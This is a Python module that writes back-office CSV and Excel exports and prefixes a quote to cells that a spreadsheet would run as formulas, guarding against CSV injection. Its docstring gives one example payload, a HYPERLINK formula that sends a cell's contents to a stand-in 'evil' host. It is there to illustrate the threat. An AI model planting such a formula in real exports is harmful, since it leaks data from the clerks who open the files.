"""Every file a person downloads from the back office (CSV or Excel) is written here.

Formula injection ("CSV injection"): Excel, WPS and LibreOffice read a cell whose text begins with
``=``, ``+``, ``-`` or ``@`` as a formula — ``=HYPERLINK("http://evil/?"&A1,"点此")`` in a file name, a
phone list's junk row, a refund reason or an SMS remark becomes a live link or a DDE call in the
clerk's spreadsheet. Tab and carriage return are stripped by some of them before they look, so
they count too. Every string cell that begins with one of these is written with a leading single
quote (OWASP's advice): the cell shows the text, nothing runs. A plain signed number or amount
(``-12``, ``-¥1,234.50``) is left as it is: it has nothing to call. Numbers stay numbers (ints are
written as numbers, never as text).

- :func:`csv_bytes` — rows (header first) as UTF-8 CSV with a BOM, so Excel opens Chinese correctly;
- :func:`xlsx_bytes` — a polars frame (Chinese column names) as one worksheet; strings are never
  turned into formulas, links or numbers by the writer either;
- :func:`filename` — ``订单-20261122-1405.xlsx`` (Asia/Shanghai).

Callers build the rows or the frame in their feature's service (labels, masking, filters), then
hand them here; no other module writes CSV or Excel for a person.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

import polars as pl

from gc_admin.core.clock import SHANGHAI, utcnow

CSV_MIME = "text/csv"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORT_LIMIT = 200_000  # rows in one export; a list's total tells the clerk when they hit it

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_RE = r"^[=+\-@\t\r]"
# a plain signed number or amount: -12, -12.50, -¥1,234.50 (no letters, no operators but the sign)
_NUMBER_RE = r"^[+-]?¥?\d[\d,]*(\.\d+)?$"
_NUMBER = re.compile(_NUMBER_RE)


def neutralise(value: Any) -> Any:
    """A string that a spreadsheet would run as a formula, with a leading ``'``; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """:func:`neutralise` on every string column of ``frame`` (vectorised); other columns untouched."""
    exprs = []
    for name, dtype in frame.schema.items():
        if dtype == pl.String:
            c = pl.col(name)
            risky = c.str.contains(_FORMULA_RE) & ~c.str.contains(_NUMBER_RE)
            exprs.append(pl.when(risky).then(pl.lit("'") + c).otherwise(c).alias(name))
    return frame.with_columns(exprs) if exprs else frame


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """Rows (the first one the header) as UTF-8 CSV with a BOM; every cell neutralised."""
    buf = io.StringIO()
    w = csv.writer(buf)
    for row in rows:
        w.writerow([neutralise(v) for v in row])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


def frame_csv(frame: pl.DataFrame) -> bytes:
    """A frame as :func:`csv_bytes` (header = its column names)."""
    return csv_bytes([frame.columns, *frame.iter_rows()])


def xlsx_bytes(frame: pl.DataFrame, *, sheet: str = "Sheet1") -> bytes:
    """A frame as an Excel workbook of one worksheet: bold header, fitted columns, strings neutralised."""
    from xlsxwriter import Workbook

    buf = io.BytesIO()
    # the writer itself must not reinterpret text either ("http://..." as a link, "0012" as 12)
    wb = Workbook(buf, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
                        "strings_to_numbers": False, "nan_inf_to_errors": True})
    try:
        neutralise_frame(frame).write_excel(workbook=wb, worksheet=sheet[:31], autofit=True,
                                            header_format={"bold": True})
    finally:
        wb.close()
    return buf.getvalue()


def local_time(expr: pl.Expr, *, seconds: bool = False) -> pl.Expr:
    """An aware (UTC) datetime column as ``2026-11-21 14:05`` Asia/Shanghai text; nulls stay null."""
    return expr.dt.convert_time_zone("Asia/Shanghai").dt.strftime("%Y-%m-%d %H:%M:%S" if seconds else "%Y-%m-%d %H:%M")


def times(values: Iterable[dt.datetime | None]) -> pl.Series:
    """Aware datetimes as a UTC datetime series (for :func:`local_time`)."""
    return pl.Series(list(values), dtype=pl.Datetime("us", "UTC"))


def filename(title: str, ext: str = "xlsx", *, now: dt.datetime | None = None) -> str:
    """``订单-20261122-1405.xlsx``: the list's Chinese name and the local time of the export."""
    return f"{title}-{(now or utcnow()).astimezone(SHANGHAI):%Y%m%d-%H%M}.{ext}"
